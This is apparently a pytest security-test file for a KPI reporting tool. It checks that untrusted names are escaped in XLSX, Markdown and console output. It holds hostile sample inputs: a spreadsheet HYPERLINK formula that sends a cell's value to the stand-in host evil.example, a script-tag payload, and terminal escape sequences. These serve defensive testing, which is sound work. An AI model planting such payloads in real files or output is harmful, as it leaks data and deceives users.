"""Issue 15 items 9 and 11: names from outside never become a live XLSX formula, never reach
the terminal as escape sequences, and stay text in Markdown tables."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pandas as pd
import yaml
from openpyxl import load_workbook

from kpi_transforms.metrics.scorecards import DEFAULT_TEMPLATES
from kpi_transforms.pipeline.reports import write_report
from kpi_transforms.present.console import print_ingest
from kpi_transforms.present.tables import render_table
from kpi_transforms.warehouse.engine import Warehouse
from tests.hostile.make_corpus import GOOD
from tests.test_bi_views import demo_config, demo_duckdb  # noqa: F401 - fixture

EVIL_TEMPLATE = '=HYPERLINK("http://evil.example/?"&A1,"klik")'


def test_template_name_is_not_a_formula_in_xlsx(demo_duckdb, tmp_path):
    shipped = yaml.safe_load(DEFAULT_TEMPLATES.read_text(encoding="utf-8"))
    templates = tmp_path / "t.yaml"
    templates.write_text(yaml.safe_dump({EVIL_TEMPLATE: shipped["sales_chat"]}, allow_unicode=True), encoding="utf-8")
    out = tmp_path / "r.xlsx"
    write_report(Warehouse(demo_duckdb), demo_config(), "scorecard", "2025-Q1", "xlsx", out,
                 template=EVIL_TEMPLATE, templates_path=templates)
    cells = [c for row in load_workbook(out)["Scorecard"].iter_rows() for c in row if c.value is not None]
    named = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
    assert len(named) == 3  # team, lia, rina
    assert all(c.data_type == "s" for c in named), [(c.coordinate, c.data_type) for c in named]
    assert not [c for c in cells if c.data_type == "f"]


def test_markdown_cells_escape_html_and_pipes():
    frame = pd.DataFrame({"Agen|x": ["<script>alert(1)</script>", "a|b", "R&D"]})
    text = render_table(frame, "md", title="<b>judul</b>")
    assert "<script>" not in text and "<b>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "a\\|b" in text and "R&amp;D" in text
    assert "| Agen\\|x |" in text and "### &lt;b&gt;judul&lt;/b&gt;" in text


def test_plain_table_shows_control_characters_escaped():
    frame = pd.DataFrame({"nama": ["\x1b[2J\x1b]0;owned\x07Budi", "kanan\u202eiklan"]})
    text = render_table(frame, "table", title="judul\x1b[31m")
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b[2J\\x1b]0;owned\\x07Budi" in text and "kanan\\u202eiklan" in text


def test_ingest_summary_escapes_file_names(tmp_path):
    landing = tmp_path / "landing"
    landing.mkdir()
    (landing / "Chat WhatsApp dengan \x1b[31mMerah\x1b[0m.txt").write_text(GOOD, encoding="utf-8")
    (landing / "\x1b]0;judul\x07kosong.txt").write_bytes(b"")
    done = subprocess.run([sys.executable, "-m", "kpi_transforms.cli", "--warehouse", f"duckdb:///{tmp_path / 'w.duckdb'}",
                           "ingest", str(landing), "--lake", str(tmp_path / "lake")],
                          cwd=tmp_path, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert "\x1b" not in done.stdout and "\x07" not in done.stdout and "\x1b" not in done.stderr
    assert "\\x1b[31mMerah\\x1b[0m" in done.stdout and "\\x1b]0;judul\\x07kosong.txt" in done.stdout


def test_print_ingest_escapes_reason(tmp_path):
    from kpi_transforms.pipeline.ingest import IngestReport
    from kpi_transforms.sources.registry import FileResult

    bad = FileResult("landing/a\x1b[1mb.txt", "0" * 64, "rejected", reason="bad \x1b[2K line")
    out = tmp_path / "o.txt"
    with out.open("w") as handle:
        print_ingest(IngestReport(batch_id="b1", files=[bad], affected_threads=[]), handle)
    text = out.read_text()
    assert "\x1b" not in text and "a\\x1b[1mb" in text and "bad \\x1b[2K line" in text
